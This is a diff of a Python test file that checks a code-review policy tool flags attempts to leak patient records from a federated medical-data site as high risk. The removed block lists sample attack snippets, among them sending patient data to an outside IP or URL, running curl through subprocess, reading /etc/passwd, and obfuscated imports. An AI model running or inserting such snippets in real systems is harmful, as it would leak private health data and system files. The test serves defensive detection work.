@@ -11,40 +11,7 @@ from federation import StudyPlan
 from federation.study import medsyft_evaluate, medsyft_train
 from syft_policies import SitePolicy, review_code
 
-ATTEMPTS = {
-    "return the frame": "def f(patients):\n    return patients\n",
-    "head": "def f(patients):\n    return patients.head(10)\n",
-    "iloc slice": "def f(patients):\n    return patients.iloc[:5]\n",
-    "positional slice": "def f(patients):\n    return patients[:5]\n",
-    "to_dict export": "def f(patients):\n    return patients.to_dict()\n",
-    "values": "def f(patients):\n    x = patients.values\n    return {'x': x}\n",
-    "write a file": "def f(patients):\n    patients.to_csv('/tmp/out.csv')\n    return 1\n",
-    "open()": "def f(patients):\n    with open('/tmp/x', 'w') as fh:\n        fh.write('x')\n    return 0\n",
-    "socket": ("def f(patients):\n    import socket\n    s = socket.create_connection(('203.0.113.5', 80))\n"
-               "    s.send(b'x')\n    return 0\n"),
-    "http": ("def f(patients):\n    import urllib.request\n"
-             "    urllib.request.urlopen('http://example.org/?d=' + patients.to_json())\n    return 0\n"),
-    "subprocess": "def f(patients):\n    import subprocess\n    subprocess.run(['curl', 'example.org'])\n    return 0\n",
-    "os.system": "def f(patients):\n    import os\n    os.system('cat /etc/passwd')\n    return 0\n",
-    "eval": "def f(patients):\n    return eval('patients.head()')\n",
-    "exec": "def f(patients):\n    exec('y = 1')\n    return 0\n",
-    "__import__": "def f(patients):\n    return __import__('o' + 's').listdir('/')\n",
-    "obfuscated getattr": "def f(patients):\n    return getattr(patients, 'he' + 'ad')(3)\n",
-    "getattr constant": "def f(patients):\n    return getattr(patients, 'sample')(3)\n",
-    "pickle": "def f(patients):\n    import pickle\n    return pickle.dumps(patients)\n",
-    "print rows": "def f(patients):\n    print(patients.iloc[0])\n    return 0\n",
-    "print frame": "def f(patients):\n    print(patients)\n    return 0\n",
-    "single patient": "def f(patients):\n    return float(patients[patients['Id'] == 'abc']['LAT'].sum())\n",
-    "rows in weights": ("def f(cohort, weights):\n    weights['head.bias'] = cohort.to_numpy()\n"
-                        "    return weights\n"),
-    "rows in weights (store)": ("def f(cohort, weights):\n    w = dict(weights)\n    w['x'] = cohort['age'] * 1.0\n"
-                                "    return w\n"),
-    "tiny cells": "def f(patients):\n    return patients.groupby(['BIRTHDATE', 'ZIP']).size().sum()\n",
-    "per-record array": ("def f(patients):\n    import numpy as np\n    out = np.zeros(len(patients))\n"
-                         "    return float(out.sum())\n"),
-    "record loop": "def f(patients):\n    return [r for r in patients.itertuples()]\n",
-    "list copy": "def f(patients):\n    return list(patients)\n",
-}
+from exfiltration import ATTEMPTS
 
 BENIGN = {
     "vetted summary": ("def f(patients, encounters, conditions):\n    from datasites.jobs import cohort_summary\n"
@@ -58,7 +25,7 @@ BENIGN = {
 
 @pytest.mark.parametrize("name", sorted(ATTEMPTS))
 def test_exfiltration_attempts_are_high_risk(name):
-    report = review_code(ATTEMPTS[name])
+    report = review_code(inspect.getsource(ATTEMPTS[name]))
     assert report.risk == "high", f"{name}: {report}"
     assert all(f.line >= 1 for f in report.findings)
 
